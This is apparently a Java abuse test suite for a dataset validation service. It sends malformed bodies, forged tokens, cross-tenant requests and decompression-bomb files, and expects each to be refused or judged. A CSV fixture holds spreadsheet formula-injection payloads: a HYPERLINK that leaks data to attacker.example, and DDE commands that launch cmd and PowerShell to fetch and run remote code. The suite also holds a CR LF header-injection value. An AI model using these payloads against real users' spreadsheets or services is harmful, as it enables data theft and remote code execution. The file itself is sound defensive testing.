package io.datanet.validation;

import static io.datanet.platform.testing.RawHttp.bearer;
import static io.datanet.platform.testing.HostileInputs.concat;
import static io.datanet.platform.testing.RawHttp.json;
import static io.datanet.platform.testing.HostileInputs.nestedArrays;
import static io.datanet.platform.testing.HostileInputs.nestedObjects;
import static io.datanet.platform.testing.AbuseCases.printable;
import static io.datanet.platform.testing.HostileInputs.randomBytes;
import static io.datanet.platform.testing.RawHttp.raw;
import static io.datanet.platform.testing.HostileInputs.utf8;
import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.datanet.events.CloudEvent;
import io.datanet.events.DatanetDefined;
import io.datanet.events.ReviewMode;
import io.datanet.events.Topics;
import io.datanet.platform.blob.BlobStore;
import io.datanet.platform.kafka.TopicNames;
import io.datanet.platform.testing.HostileInputs;
import io.datanet.platform.testing.RawHttp;
import io.datanet.platform.testing.AbuseCases;
import io.datanet.platform.testing.AbuseCases.Endpoint;
import io.datanet.platform.testing.DatanetTestResource;
import io.datanet.platform.testing.TestEvents;
import io.datanet.platform.testing.TestTokens;
import io.datanet.validation.records.DocumentBombs;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile requests to every endpoint of validation-service (reports, the reviewers' list and validator reviews):
 * malformed, oversized and mistyped bodies, odd upload ids and list parameters, forged, expired and misplaced tokens,
 * another contributor's report, a contributor's list. Each gets the right 4xx as problem JSON and changes no verdict.
 * Then hostile files that passed upload-service's checks (formula cells in a CSV, a 10,000-deep JSON line, a 4 MB
 * line, an escaped NUL, binary bytes) are judged like any other (records with control characters are rejected):
 * each gets a verdict, with its reasons, and the service stays ready.
 */
@QuarkusTest
@WithTestResource(DatanetTestResource.class)
class AbuseTest {

    /** The size of the table below; RELIABILITY.md reports it. */
    static final int CASES = 210;

    static final String CLEAN = "{\"text\":\"To make a clear stock, cover the bones with cold water and bring it slowly to a simmer, skimming the foam.\"}\n"
            + "{\"text\":\"A basic vinaigrette is one part vinegar to three parts oil, whisked with a little mustard and salt.\"}\n";

    @Inject
    TopicNames topics;
    @Inject
    BlobStore blobs;

    @TestFactory
    Stream<DynamicTest> hostileRequestsAreRefusedAndChangeNoVerdict() throws Exception {
        String owner = "owner-" + UUID.randomUUID();
        String victim = "victim-" + UUID.randomUUID();
        String attacker = "attacker-" + UUID.randomUUID();
        String datanet = "d-" + UUID.randomUUID();
        TestEvents.publish(topics.physical(Topics.DATANETS_DEFINED), CloudEvent.of("/test", datanet, new DatanetDefined(datanet,
                "Cooking", "", owner, List.of(), List.of("jsonl", "csv", "txt"), ReviewMode.AUTO, 0.8, Instant.now(), null)));
        String victimsUpload = upload(datanet, victim, "clean.jsonl", utf8(CLEAN));
        JsonNode victimsReport = report(victimsUpload);
        // the owner may read reports once the datanet's definition (its own topic) has been consumed
        await().atMost(Duration.ofSeconds(30)).until(() -> given().auth().oauth2(TestTokens.contributor(owner))
                .get("/api/reports/" + victimsUpload).statusCode() == 200);

        String reader = TestTokens.validator("reader");
        AbuseCases cases = new AbuseCases("validation-service", () -> state(victimsUpload, reader));
        String token = TestTokens.contributor(attacker);
        String validator = TestTokens.validator("val-" + attacker);
        String reports = "/api/reports/";
        String review = reports + victimsUpload + "/review";
        String other = "REJECTED".equals(victimsReport.path("verdict").asText()) ? "ACCEPTED" : "REJECTED";

        // GET /api/reports/{id}: another contributor's report, odd ids, wrong methods
        cases.expect("report: another contributor's", 404, () -> json("GET", reports + victimsUpload, token, null));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("report id " + printable(id), status,
                () -> json("GET", reports + id, validator, null)));
        cases.expect("report: DELETE", 405, () -> json("DELETE", reports + victimsUpload, validator, null));
        cases.expect("report: PUT", 405, () -> json("PUT", reports + victimsUpload, validator, "{\"verdict\":\"ACCEPTED\"}"));

        // GET /api/reports/{id}/records: another contributor's, odd parameters, wrong methods
        String records = reports + victimsUpload + "/records";
        cases.expect("records: another contributor's", 404, () -> json("GET", records, token, null));
        cases.expect("records: an unknown verdict", 400, () -> json("GET", records + "?verdict=MAYBE", validator, null));
        cases.expect("records: a verdict with NUL", 400, () -> json("GET", records + "?verdict=%00", validator, null));
        cases.expect("records: a huge page", 400, () -> json("GET", records + "?page=99999999999", validator, null));
        cases.expect("records: size 0", 400, () -> json("GET", records + "?size=0", validator, null));
        cases.expect("records: DELETE", 405, () -> json("DELETE", records, validator, null));

        // GET /api/reports: odd parameters, the wrong roles
        cases.expect("reports: an unknown verdict", 400, () -> json("GET", "/api/reports?verdict=MAYBE", validator, null));
        cases.expect("reports: a verdict with NUL", 400, () -> json("GET", "/api/reports?verdict=%00", validator, null));
        cases.expect("reports: a datanet filter with CR LF", 400, () -> json("GET", "/api/reports?datanet=%0D%0AX-Injected:%201", validator, null));
        cases.expect("reports: page -1", 400, () -> json("GET", "/api/reports?page=-1", validator, null));
        cases.expect("reports: size 101", 400, () -> json("GET", "/api/reports?size=101", validator, null));
        cases.expect("reports: size not a number", 400, () -> json("GET", "/api/reports?size=ten", validator, null));
        cases.expect("reports: a page whose offset overflows", 400, () -> json("GET", "/api/reports?page=2147483647&size=100", validator, null));
        cases.expect("reports: DELETE", 405, () -> json("DELETE", "/api/reports", validator, null));
        cases.expect("reports: by a contributor", 403, () -> json("GET", "/api/reports", token, null));
        cases.expect("reports: by the datanet's owner", 403, () -> json("GET", "/api/reports?datanet=" + datanet, TestTokens.contributor(owner), null));

        // GET /api/copies and /api/copies/records: who copied whom is for validators and operators only
        cases.expect("copies: by a contributor", 403, () -> json("GET", "/api/copies", token, null));
        cases.expect("copies: by the datanet's owner", 403, () -> json("GET", "/api/copies?datanet=" + datanet, TestTokens.contributor(owner), null));
        cases.expect("copies: a copier filter with NUL", 400, () -> json("GET", "/api/copies?copier=%00", validator, null));
        cases.expect("copies: a datanet filter with CR LF", 400, () -> json("GET", "/api/copies?datanet=%0D%0AX-Injected:%201", validator, null));
        cases.expect("copies: POST", 405, () -> json("POST", "/api/copies", validator, "{}"));
        cases.expect("copy records: without a copier", 400, () -> json("GET", "/api/copies/records?datanet=" + datanet, validator, null));
        cases.expect("copy records: without a datanet", 400, () -> json("GET", "/api/copies/records?copier=" + attacker, validator, null));
        cases.expect("copy records: by a contributor", 403, () -> json("GET", "/api/copies/records?datanet=" + datanet + "&copier=" + attacker, token, null));

        // POST /api/reports/{id}/review: bodies that are not a review
        cases.expect("review: random bytes", 400, () -> raw("POST", review, validator, "application/json", randomBytes(4096)));
        cases.expect("review: invalid UTF-8", 400, () -> raw("POST", review, validator, "application/json",
                concat(utf8("{\"verdict\":\"" + other + "\",\"comment\":\""), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}, utf8("\"}"))));
        cases.expect("review: a JSON array", 400, () -> json("POST", review, validator, "[\"" + other + "\"]"));
        cases.expect("review: JSON null", 422, () -> json("POST", review, validator, "null"));
        cases.expect("review: a JSON number", 400, () -> json("POST", review, validator, "7"));
        cases.expect("review: a JSON string", 400, () -> json("POST", review, validator, "\"" + other + "\""));
        cases.expect("review: truncated JSON", 400, () -> json("POST", review, validator, "{\"verdict\":\"" + other));
        cases.expect("review: 10,000 nested arrays", 400, () -> json("POST", review, validator, "{\"verdict\":" + nestedArrays(10_000) + "}"));
        cases.expect("review: 10,000 nested objects in an unknown member", 400, () -> json("POST", review, validator,
                "{\"verdict\":\"" + other + "\",\"comment\":\"x\",\"extra\":" + nestedObjects(10_000) + "}"));
        cases.expect("review: an unknown verdict", 400, () -> json("POST", review, validator, "{\"verdict\":\"MAYBE\",\"comment\":\"x\"}"));
        cases.expect("review: verdict PENDING_REVIEW", 422, () -> json("POST", review, validator, "{\"verdict\":\"PENDING_REVIEW\",\"comment\":\"x\"}"));
        cases.expect("review: no comment", 422, () -> json("POST", review, validator, "{\"verdict\":\"" + other + "\"}"));
        cases.expect("review: a blank comment", 422, () -> json("POST", review, validator, "{\"verdict\":\"" + other + "\",\"comment\":\" \\n\\t\"}"));
        cases.expect("review: a comment that is an object", 400, () -> json("POST", review, validator, "{\"verdict\":\"" + other + "\",\"comment\":{}}"));
        cases.expect("review: a 1 MB comment", 422, () -> json("POST", review, validator,
                "{\"verdict\":\"" + other + "\",\"comment\":\"" + "c".repeat(1 << 20) + "\"}"));
        cases.expect("review: a 6 MB JSON body", 422, () -> json("POST", review, validator,
                "{\"verdict\":\"" + other + "\",\"comment\":\"" + "c".repeat(6 << 20) + "\"}"));
        cases.expect("review: NUL in the comment", 422, () -> json("POST", review, validator,
                "{\"verdict\":\"" + other + "\",\"comment\":\"bad\\u0000data\"}"));
        cases.expect("review: a lone surrogate in the comment", 422, () -> json("POST", review, validator,
                "{\"verdict\":\"" + other + "\",\"comment\":\"bad\\udc00data\"}"));
        cases.expect("review: text/plain", 415, () -> raw("POST", review, validator, "text/plain", utf8(other)));
        cases.expect("review: application/xml", 415, () -> raw("POST", review, validator, "application/xml", utf8("<review/>")));
        cases.expect("review: the verdict it already has", 409, () -> json("POST", review, validator,
                "{\"verdict\":\"" + victimsReport.path("verdict").asText() + "\",\"comment\":\"again\"}"));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("review of upload id " + printable(id), status,
                () -> json("POST", reports + id + "/review", validator, "{\"verdict\":\"" + other + "\",\"comment\":\"x\"}")));

        // The wrong roles: contributors, even the uploader and the datanet's owner, do not override verdicts
        String body = "{\"verdict\":\"" + other + "\",\"comment\":\"mine now\"}";
        cases.expect("review: by a contributor", 403, () -> json("POST", review, token, body));
        cases.expect("review: by the uploader", 403, () -> json("POST", review, TestTokens.contributor(victim), body));
        cases.expect("review: by the datanet's owner", 403, () -> json("POST", review, TestTokens.contributor(owner), body));
        cases.expect("review: by a contributor, random bytes", 403, () -> raw("POST", review, token, "application/json", randomBytes(512)));
        // No one reviews their own upload, whatever their role
        cases.expect("review: by the uploader as a validator", 403, () -> json("POST", review, TestTokens.validator(victim), body));
        cases.expect("review: by the uploader as an operator", 403, () -> json("POST", review, TestTokens.operator(victim), body));

        // Tokens, on every /api endpoint
        Map<String, Endpoint> endpoints = new LinkedHashMap<>();
        endpoints.put("GET /api/reports", auth -> RawHttp.send("GET", "/api/reports", auth, null, null, Map.of()));
        endpoints.put("GET /api/reports/{id}", auth -> RawHttp.send("GET", reports + victimsUpload, auth, null, null, Map.of()));
        endpoints.put("POST /api/reports/{id}/review", auth -> RawHttp.send("POST", review, auth, "application/json",
                utf8(body), Map.of()));
        endpoints.put("GET /api/copies", auth -> RawHttp.send("GET", "/api/copies", auth, null, null, Map.of()));
        endpoints.put("GET /api/reports/{id}/records", auth -> RawHttp.send("GET", reports + victimsUpload + "/records",
                auth, null, null, Map.of()));
        cases.expectEach(401, HostileInputs.forgedAuthorizations("val-" + attacker), endpoints);
        cases.expectEach(401, HostileInputs.tokensBreakingTheRules("val-" + attacker), endpoints);
        cases.expectRefusedByTheHttpLayer("/api/reports", bearer(validator));

        // Hostile files that got past upload-service's checks: each is judged, with reasons, nothing chokes
        Map<String, String> hostile = new LinkedHashMap<>();
        String formulas = "text\n"
                + "\"=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"Click here for the full recipe\"\")\"\n"
                + "+cmd|' /C calc'!A0 is how the old spreadsheet exploit began and then came a recipe for soup.\n"
                + "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0\n"
                + "-2+3+cmd|' /C notepad'!'A1' and then simmer the onions slowly in butter until golden.\n"
                + "=1+1 is what a spreadsheet would compute but bread needs flour and water and salt.\n";
        hostile.put("a CSV with formula cells", upload(datanet, attacker, "formulas.csv", utf8(formulas)));
        hostile.put("a JSON line nested 10,000 deep", upload(datanet, attacker, "nested.jsonl",
                utf8("{\"text\":" + nestedArrays(10_000) + "}\n" + "{\"a\":" + nestedObjects(10_000) + "}\n" + CLEAN)));
        hostile.put("a 4 MB line", upload(datanet, attacker, "long.jsonl",
                utf8("{\"text\":\"" + "The quick brown fox jumps over the lazy dog. ".repeat(4 * 1024 * 1024 / 45) + "\"}\n")));
        hostile.put("an escaped NUL and escape sequences in a record", upload(datanet, attacker, "nul.jsonl",
                utf8("{\"text\":\"A line about bread \\u0000 with a NUL and \\u001b[2J a terminal escape in the middle.\"}\n"
                        + "{\"prompt\":\"\\u0000\",\"completion\":\"\\ud800 a lone surrogate, then words about soup and stock.\"}\n")));
        hostile.put("binary bytes named .txt", upload(datanet, attacker, "binary.txt", randomBytes(64 * 1024)));
        hostile.put("a CSV whose quote never closes", upload(datanet, attacker, "open.csv",
                concat(utf8("text\n\""), utf8("a field that never ends, ".repeat(20_000)))));
        // Document bombs (issue 21): small files that decode to far more than they are, rejected for it
        long mib = 1024 * 1024;
        Map<String, String> bombs = new LinkedHashMap<>();   // upload -> the reason it must be rejected for
        bombs.put(upload(datanet, attacker, "text-bomb.pdf", DocumentBombs.pdfTextBomb(20 * mib)), "structure.document-too-large");
        bombs.put(upload(datanet, attacker, "stream-bomb.pdf", DocumentBombs.pdfTextBomb(256 * mib)), "structure.document-too-large");
        bombs.put(upload(datanet, attacker, "pages.pdf", DocumentBombs.pdfSharedContent(30_000, 2_000)), "structure.document-too-large");
        bombs.put(upload(datanet, attacker, "shared-content.pdf", DocumentBombs.pdfSharedContent(1_000, 200_000)), "structure.document-too-large");
        bombs.put(upload(datanet, attacker, "xml-bomb.docx", DocumentBombs.docxBomb(95 * mib)), "structure.document-too-large");
        bombs.put(upload(datanet, attacker, "wide.csv", utf8("text" + ",".repeat(1_000_000) + "\nA recipe.\n")), "structure.csv-too-wide");
        String[] bombNames = {"a one-page PDF decoding to 20 MB of text", "a PDF stream decoding to 256 MiB",
                "a PDF of 30,000 pages sharing one content stream", "a PDF of 1,000 pages sharing a 200 KB content stream",
                "a DOCX whose XML inflates to 95 MB", "a CSV of a million columns"};
        int bomb = 0;
        for (Map.Entry<String, String> file : bombs.entrySet()) {
            cases.check(bombNames[bomb++] + " is rejected for " + file.getValue(), () -> {
                JsonNode report = report(file.getKey());
                return "REJECTED".equals(report.path("verdict").asText())
                        && report.path("reasonCounts").path(file.getValue()).asInt() == 1 ? null : "got " + report;
            });
        }
        for (Map.Entry<String, String> file : hostile.entrySet()) {
            cases.check(file.getKey() + " gets a verdict", () -> {
                JsonNode report = report(file.getValue());
                System.out.println("validation-service abuse: " + file.getKey() + " -> " + report.path("verdict").asText()
                        + " records " + report.path("recordsAccepted") + "/" + report.path("recordsTotal") + " reasons "
                        + report.path("reasonCounts") + (report.path("fileError").isNull() ? "" : " fileError " + report.path("fileError")));
                return report.path("verdict").isTextual() ? null : "no verdict: " + report;
            });
        }
        cases.check("formula cells are kept as text, never evaluated", () -> {
            JsonNode report = report(hostile.get("a CSV with formula cells"));
            if (!report.path("cleanedBlobAddress").isTextual()) {
                return null;
            }
            try (InputStream cleaned = blobs.open(report.path("cleanedBlobAddress").asText())) {
                String text = new String(cleaned.readAllBytes(), StandardCharsets.UTF_8);
                System.out.println("validation-service abuse: cleaned formulas.csv -> " + text.strip());
                for (String line : text.strip().split("\n")) {
                    String record = RawHttp.json(line).path("text").asText();
                    if (!formulas.contains(record)) {
                        return "a cleaned record is not the cell as uploaded: " + record;
                    }
                }
                return null;
            }
        });
        cases.check("records with a NUL, a terminal escape or a lone surrogate are rejected for it", () -> {
            JsonNode report = report(hostile.get("an escaped NUL and escape sequences in a record"));
            int flagged = report.path("reasonCounts").path("structure.control-characters").asInt();
            return report.path("recordsAccepted").asInt() == 0 && flagged == 2 ? null
                    : "expected both records rejected for structure.control-characters: " + report;
        });
        return cases.finish(CASES);
    }

    private String upload(String datanet, String contributor, String fileName, byte[] content) throws Exception {
        return ReceivedUploads.publish(topics, blobs, datanet, contributor, fileName, content, ReviewMode.AUTO);
    }

    /** The report of an upload, once validated (read as a validator). */
    private static JsonNode report(String uploadId) throws Exception {
        String token = TestTokens.validator("reader");
        await().atMost(Duration.ofSeconds(60)).until(() -> json("GET", "/api/reports/" + uploadId, token, null).status() == 200);
        return json("GET", "/api/reports/" + uploadId, token, null).json();
    }

    /** What no refused request may change: the victim's verdict, its version and its history. */
    private static String state(String uploadId, String readerToken) {
        var report = RawHttp.probe("/api/reports/" + uploadId, readerToken);
        return report.path("verdict").asText() + " v" + report.path("verdictVersion").asInt() + " history="
                + report.path("history").size();
    }
}
